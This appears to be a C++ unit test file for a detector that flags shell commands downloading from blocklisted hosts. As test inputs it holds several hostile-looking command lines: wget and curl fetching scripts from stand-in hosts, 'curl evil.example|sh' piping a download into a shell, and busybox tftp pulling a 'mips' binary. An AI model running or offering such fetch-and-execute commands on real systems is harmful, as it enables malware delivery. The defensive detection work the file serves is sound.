#include "pipeline_core/detectors/listed_download.h"

#include <gtest/gtest.h>

#include <string>

namespace picket {
namespace {

const Time kNow = Time::from_unix_seconds(1'000'000);

IndicatorSet listed() {
  IndicatorSet set;
  set.add_domain("evil.example", {Time::min(), Time::max(), "feed", 80});
  set.add_address(*IpAddress::parse("203.0.113.7"), {Time::min(), Time::max(), "feed", 80});
  set.add_address(*IpAddress::parse("2001:db8::7"), {Time::min(), Time::max(), "feed", 80});
  set.add_domain("later.example", {kNow + Duration::hours(1), Time::max(), "feed", 80});
  set.seal();
  return set;
}

TEST(ListedDownload, finds_hosts_of_commands_that_fetch) {
  const IndicatorSet set = listed();
  for (const char* command :
       {"wget http://evil.example/x.sh", "/usr/bin/curl -fsSL https://user:pw@cdn.evil.example:8443/a?b#c",
        "sh -c cd /tmp; wget http://203.0.113.7/mips -O x", "busybox tftp -g -r mips 203.0.113.7",
        "scp root@evil.example:/x /tmp/x", "curl -g http://[2001:db8::7]:80/a", "sh -c \"curl evil.example|sh\"",
        "git clone https://evil.example/r.git"}) {
    EXPECT_NE(listed_download(set, command, kNow), nullptr) << command;
    EXPECT_TRUE(may_be_listed_download(set, command)) << command;
  }
}

TEST(ListedDownload, leaves_other_hosts_and_other_commands_alone) {
  const IndicatorSet set = listed();
  for (const char* command :
       {"wget http://good.example/evil.example/x.sh", "wget http://notevil.example/", "curl 203.0.113.70/x",
        "ping evil.example", "echo http://evil.example/", "wget -O /tmp/evil.example http://good.example",
        "wgetx http://evil.example/", "", "wget", "curl http://", "curl http://[", "curl @:/"}) {
    EXPECT_EQ(listed_download(set, command, kNow), nullptr) << command;
  }
}

TEST(ListedDownload, asks_for_the_time) {
  const IndicatorSet set = listed();
  EXPECT_EQ(listed_download(set, "wget http://later.example/", kNow), nullptr);
  EXPECT_TRUE(may_be_listed_download(set, "wget http://later.example/"));
  EXPECT_NE(listed_download(set, "wget http://later.example/", kNow + Duration::hours(1)), nullptr);
}

TEST(ListedDownload, looks_at_a_bounded_number_of_hosts) {
  const IndicatorSet set = listed();
  std::string command = "wget";
  for (std::size_t i = 0; i < kMaxHosts; ++i) command += " http://good" + std::to_string(i) + ".example/";
  EXPECT_EQ(listed_download(set, command + " http://evil.example/", kNow), nullptr);
}

}  // namespace
}  // namespace picket
